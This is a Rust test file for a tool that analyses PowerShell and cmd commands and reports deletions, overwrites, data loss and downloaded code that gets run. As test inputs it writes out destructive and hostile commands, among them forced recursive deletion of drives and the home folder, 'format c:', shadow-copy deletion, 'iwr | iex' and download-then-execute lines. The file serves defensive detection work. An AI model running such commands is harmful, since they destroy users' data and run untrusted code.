//! PowerShell and `cmd`.

use super::dirty;
use crate::testing::{Fixture, show};
use model::{Call, Dialect};

fn powershell(world: &Fixture, command: &str) -> Vec<String> {
    let analysis = world.read_call(&Call::Shell {
        command: command.into(),
        dialect: Dialect::PowerShell,
    });
    analysis.actions.iter().map(show).collect()
}

#[test]
fn powershell_text() {
    let world = dirty().untracked("notes.md").dir(".git");
    let lost = "loses 1 file that exists nowhere else (notes.md untracked)";
    let cases = [
        ("Remove-Item -Path 'D:\\' -Recurse -Force", "delete file:D:\\ [recursive force] root, loss unknown".to_owned()),
        ("remove-item C:\\Data -r", "delete file:C:\\Data [recursive] outside, loss unknown".to_owned()),
        ("rm -Force .\\notes.md", format!("delete file:/home/dev/proj/notes.md [force] project, {lost}")),
        ("$p = 'notes.md'\nRemove-Item $p", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
        ("Get-ChildItem notes.md | Remove-Item", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
        ("Remove-Item $unknown -Recurse", "delete file: [recursive] (unknown), loss unknown".to_owned()),
        ("Remove-Item\u{2008}notes.md\u{3000}", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
        ("Remove-Item notes.md -WhatIf", "delete file:/home/dev/proj/notes.md [dry_run] project".to_owned()),
        ("Set-Content -Path notes.md -Value x", format!("write file:/home/dev/proj/notes.md [truncate] project, {lost}")),
        ("'x' | Out-File notes.md", format!("write file:/home/dev/proj/notes.md [truncate] project, {lost}")),
        ("echo x > notes.md", format!("write file:/home/dev/proj/notes.md [truncate] project, {lost}")),
        ("Remove-Item .git/index.lock", "delete file:/home/dev/proj/.git/index.lock project".to_owned()),
        ("$f = \"$env:TEMP\\t1.txt\"\nRemove-Item $f", "delete file:/tmp/t1.txt temp (derived)".to_owned()),
        ("Remove-Item -Recurse -Force ~", "delete file:/home/dev [recursive force] home-root (derived), loses 3 files that exist nowhere else (a.rs modified, notes.md untracked, src/b.rs modified)".to_owned()),
        ("ri ~\\Documents -Recurse", "delete file:/home/dev/Documents [recursive] home (derived)".to_owned()),
        ("Remove-Item ~backup.txt", "delete file:/home/dev/proj/~backup.txt project".to_owned()),
        ("Get-ChildItem notes.md | % { del $_.FullName }", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
        ("Get-Item notes.md | ForEach-Object { $_.Delete() }", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
        ("Get-ChildItem -Filter *.md | Remove-Item", format!("delete file:/home/dev/proj [mass] project, {lost}")),
        ("[System.IO.File]::Delete('notes.md')", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
        ("[IO.File]::WriteAllText(\"notes.md\", \"\")", format!("write file:/home/dev/proj/notes.md [truncate] project, {lost}")),
        ("Remove-Item a.txt, notes.md", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
        ("New-Item -Force notes.md", format!("write file:/home/dev/proj/notes.md [truncate] project, {lost}")),
        ("if exist notes.md del notes.md", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
        ("del %USERPROFILE%\\x.txt", "delete file:/home/dev/x.txt home (derived)".to_owned()),
        ("Remove-Item HKCU:\\Software\\X -Recurse", "destroy file:HKCU:\\Software\\X, loses what this registry key holds".to_owned()),
        ("Remove-AzResourceGroup -Name rg -Force", "destroy cloud:Remove-AzResourceGroup, loses what it names, with its data".to_owned()),
        ("Stop-Process -Name node", "kill process:node [mass]".to_owned()),
        ("git reset --hard", "discard git:/home/dev/proj [mass], loses 2 files that exist nowhere else (a.rs modified, src/b.rs modified)".to_owned()),
        ("if ($x) { Remove-Item notes.md }", format!("delete file:/home/dev/proj/notes.md project, {lost}")),
    ];
    for (command, expected) in cases {
        let actions = powershell(&world, command);
        assert!(actions.contains(&expected), "{command}: {actions:?}");
    }
    for command in [
        "New-Item -ItemType Directory -Force notes.md",
        "New-Item notes.md",
        "Remove-Item Env:X",
        "Get-Process node",
        "if (Test-Path notes.md) { Get-Content notes.md }",
        "robocopy src notes.md /MIR /L",
        "Get-ChildItem -Recurse -Filter *.pyc | Remove-Item",
    ] {
        let actions = powershell(&world, command);
        assert!(
            !actions.iter().any(|action| action.contains("loses")),
            "{command}: {actions:?}"
        );
    }
    let fetched = powershell(&world, "iwr https://x.example/a.ps1 | iex");
    assert!(fetched[1].contains("downloaded"), "{fetched:?}");
}

#[test]
fn words_of_windows_in_a_posix_shell() {
    let world = dirty().untracked("report.txt");
    let lost = "loses 1 file that exists nowhere else (report.txt untracked)";
    let cases = [
        (
            "cmd /c rd /s /q \"C:\\Data\"",
            "delete file:C:\\Data [recursive force] outside, loss unknown".to_owned(),
        ),
        (
            "cmd //c 'del /f /s /q C:\\x\\*'",
            "delete file:C:\\x\\* [recursive force mass] outside, loss unknown".to_owned(),
        ),
        (
            "DEL /F /Q report.txt",
            format!("delete file:/home/dev/proj/report.txt [force] project, {lost}"),
        ),
        (
            "powershell -Command \"Remove-Item report.txt\"",
            format!("delete file:/home/dev/proj/report.txt project, {lost}"),
        ),
        (
            "pwsh -c 'ri report.txt'",
            format!("delete file:/home/dev/proj/report.txt project, {lost}"),
        ),
    ];
    for (command, expected) in cases {
        assert_eq!(world.actions(command), [expected], "{command}");
    }
}

#[test]
fn texts_and_files_that_powershell_is_given() {
    let world = dirty()
        .untracked("report.txt")
        .file("x.ps1", "Remove-Item report.txt\n");
    let lost = "loses 1 file that exists nowhere else (report.txt untracked)";
    let deleted = format!("delete file:/home/dev/proj/report.txt project, {lost}");
    for command in [
        "pwsh x.ps1",
        "powershell -ExecutionPolicy Bypass -File x.ps1",
        "pwsh -NoProfile 'Remove-Item report.txt'",
        "pwsh -File - <<< 'Remove-Item report.txt'",
        "pwsh -Command - <<< 'Remove-Item report.txt'",
        "powershell -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAcgBlAHAAbwByAHQALgB0AHgAdAA=",
        "cmd //c 'for %f in (*.txt) do del report.txt'",
    ] {
        let actions = world.actions(command);
        assert!(
            actions
                .iter()
                .any(|action| action.starts_with("delete file:/home/dev/proj/report.txt")),
            "{command}: {actions:?}"
        );
    }
    assert_eq!(world.actions("pwsh -c 'del report.txt'"), [deleted]);
}

#[test]
fn what_changes_the_machine_beyond_its_files() {
    let world = dirty();
    for (command, expected) in [
        (
            "vssadmin delete shadows /all /quiet",
            "destroy file:vssadmin, loses earlier states of the disk",
        ),
        (
            "reg delete HKCU\\Software\\X /f",
            "destroy file:reg, loses what this registry key holds",
        ),
        ("net user dev /delete", "elevate program:accounts"),
        ("sc stop spooler", "elevate program:service"),
        (
            "format c: /q",
            "delete file:c: [force] root, loses a whole volume",
        ),
    ] {
        let actions = world.actions(command);
        assert!(
            actions
                .iter()
                .any(|action| action.starts_with(expected.split(',').next().unwrap())),
            "{command}: {actions:?}"
        );
    }
    for command in [
        "reg query HKCU",
        "vssadmin list shadows",
        "net use",
        "sc query",
        "format src",
    ] {
        let actions = world.actions(command);
        assert!(
            actions.iter().all(|action| action.starts_with("execute")),
            "{command}: {actions:?}"
        );
    }
}

#[test]
fn what_was_fetched_and_started_is_told() {
    let world = dirty();
    for command in [
        "iwr https://h/x.ps1 -OutFile x.ps1; .\\x.ps1",
        "iwr -Uri https://h/x.ps1 -OutFile x.ps1; . .\\x.ps1",
        "irm https://h/x.ps1 > x.ps1; pwsh -File x.ps1",
        "(iwr https://h/x.ps1).Content | Out-File x.ps1; & .\\x.ps1",
        "Start-BitsTransfer https://h/x.exe C:\\t\\x.exe; Start-Process C:\\t\\x.exe -Wait",
        "(New-Object Net.WebClient).DownloadFile('https://h/x.exe', 'x.exe'); Start-Process x.exe",
    ] {
        let actions = powershell(&world, command);
        let is_told = |action: &String| {
            action.starts_with("execute program:") && action.contains("downloaded")
        };
        assert!(actions.iter().any(is_told), "{command}: {actions:?}");
    }
    for command in [
        "iwr https://h/x.json -OutFile x.json; Get-Content x.json",
        "& C:\\t\\x.exe",
        "(Get-Content x.json).Content | ConvertFrom-Json",
    ] {
        let actions = powershell(&world, command);
        let is_told = |action: &String| {
            action.starts_with("execute program:") && action.contains("downloaded")
        };
        assert!(!actions.iter().any(is_told), "{command}: {actions:?}");
    }
}

#[test]
fn files_of_commands_are_read() {
    let lost = |text: &str, file: &str, command: &str| {
        let world = dirty().untracked("report.txt").file(file, text);
        let actions = powershell(&world, command);
        actions.iter().any(|action| action.contains("loses"))
    };
    for (file, text, command) in [
        ("x.ps1", "ri report.txt", ".\\x.ps1"),
        (
            "x.ps1",
            "$a = Join-Path $PSScriptRoot report.txt\nri $a",
            "& ./x.ps1 -All",
        ),
        (
            "t/x.ps1",
            "$r = Split-Path $PSScriptRoot\nri $r/report.txt",
            "t\\x.ps1",
        ),
        ("x.bat", "@echo off\nset F=report.txt\n@del %F%", ".\\x.bat"),
        ("x.cmd", "del \"%~dp0report.txt\"", "Start-Process x.cmd"),
        (
            "x.ps1",
            "Start-Process pwsh \"-File $PSCommandPath\"; ri report.txt",
            "./x.ps1",
        ),
    ] {
        assert!(lost(text, file, command), "{command}: {text}");
    }
    for (file, text, command) in [
        ("x.ps1", "Get-Content report.txt", ".\\x.ps1"),
        ("x.bat", "rem del report.txt", ".\\x.bat"),
        // Nobody knows which of the lines are run.
        ("x.bat", "goto end\ndel report.txt\n:end", ".\\x.bat"),
    ] {
        assert!(!lost(text, file, command), "{command}: {text}");
    }
}

/// What is written to a file with its own text replaces nothing.
#[test]
fn files_that_are_written_with_their_own_text() {
    let world = dirty().untracked("notes.md").untracked("other.md");
    for command in [
        "(Get-Content notes.md) -replace 'a','b' | Set-Content notes.md",
        "(gc .\\notes.md -Raw) -creplace 'a','b' | sc -NoNewline notes.md",
        "(Get-Content notes.md -Raw).Replace('a', 'b') | Out-File notes.md",
        "$c = Get-Content notes.md -Raw\n$c = $c -replace 'a','b'\nSet-Content notes.md $c",
        "$c=(Get-Content notes.md -Raw); $c = $c.Replace('a','b'); Set-Content -Path notes.md -Value $c",
        "$f='notes.md'; $t=[IO.File]::ReadAllText($f); [IO.File]::WriteAllText($f, $t.Replace('a','b'))",
        "Set-Content notes.md -Value ((Get-Content notes.md) -replace 'a','b')",
        "$j = Get-Content notes.md -Raw | ConvertFrom-Json\n$j.v = 1\n$j | ConvertTo-Json | Set-Content notes.md",
        "(Get-Content notes.md) | ForEach-Object { $_ -replace 'a','b' } | Set-Content notes.md",
    ] {
        let actions = powershell(&world, command);
        let loses = |action: &String| action.contains("loses") || action.contains("loss");
        assert!(!actions.iter().any(loses), "{command}: {actions:?}");
    }
    for command in [
        "(Get-Content other.md) -replace 'a','b' | Set-Content notes.md",
        "(Get-Content notes.md)[0] | Set-Content notes.md",
        "(Get-Content notes.md -TotalCount 1) -replace 'a','b' | Set-Content notes.md",
        "(Get-Content notes.md) | Select-Object -First 1 | Set-Content notes.md",
        "(Get-Content notes.md) | ForEach-Object { 'x' } | Set-Content notes.md",
        "$c = (Get-Content notes.md)[0]; Set-Content notes.md $c",
        "$c = Get-Content notes.md | Select-Object -First 1; Set-Content notes.md $c",
        "$c = Get-Content notes.md; $c = 'x'; Set-Content notes.md $c",
        "$c = Get-Content notes.md; [string]$c = 'x'; Set-Content notes.md $c",
        "$c = Get-Content notes.md; Set-Content notes.md $c.Length",
        "$c = Get-Content notes.md; Set-Content notes.md 'x'",
        "$f='notes.md'; Set-Content $f 'x'",
    ] {
        let actions = powershell(&world, command);
        let loses = |action: &String| action.contains("loses");
        assert!(actions.iter().any(loses), "{command}: {actions:?}");
    }
}

/// What stands behind a condition that does not hold does not run.
#[test]
fn conditions_of_powershell() {
    let world = dirty().untracked("notes.md");
    for command in [
        "if (-not (Test-Path notes.md)) { Set-Content notes.md 'x' }",
        "if (!(Test-Path 'notes.md')) { Copy-Item a.rs notes.md; Remove-Item notes.md }",
        "if (Test-Path nothing.md) { Remove-Item notes.md }",
        "if (Test-Path notes.md) { 'there' } else { Set-Content notes.md 'x' }",
    ] {
        let actions = powershell(&world, command);
        let loses = |action: &String| action.contains("loses");
        assert!(!actions.iter().any(loses), "{command}: {actions:?}");
    }
    for command in [
        "if (Test-Path notes.md) { Remove-Item notes.md }",
        "if (!(Test-Path nothing.md)) { Set-Content notes.md 'x' }",
        "if (!(Test-Path notes.md)) { 'none' } else { Remove-Item notes.md }",
        "if (!(Test-Path notes.md)) { 'none' }; Remove-Item notes.md",
        "if (!(Test-Path notes.md)) { 'none' }\nelse { if ($x) { Remove-Item notes.md } }",
        "if (!(Test-Path notes.md) -or $x) { Remove-Item notes.md }",
        "if (Test-Path $unknown) { Remove-Item notes.md }",
        "Remove-Item notes.md; if (Test-Path notes.md) { 'x' }",
        "foreach ($i in 1,2) { if (Test-Path made) { Remove-Item notes.md }; New-Item made }",
    ] {
        let actions = powershell(&world, command);
        let loses = |action: &String| action.contains("loses");
        assert!(actions.iter().any(loses), "{command}: {actions:?}");
    }
}
